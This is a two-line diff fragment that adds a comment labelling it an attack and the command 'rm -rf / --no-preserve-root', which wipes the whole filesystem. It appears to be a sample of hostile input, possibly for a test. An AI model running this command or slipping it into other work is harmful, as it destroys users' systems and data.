@@ -1,0 +1,2 @@
+# attack: remove everything
+rm -rf / --no-preserve-root
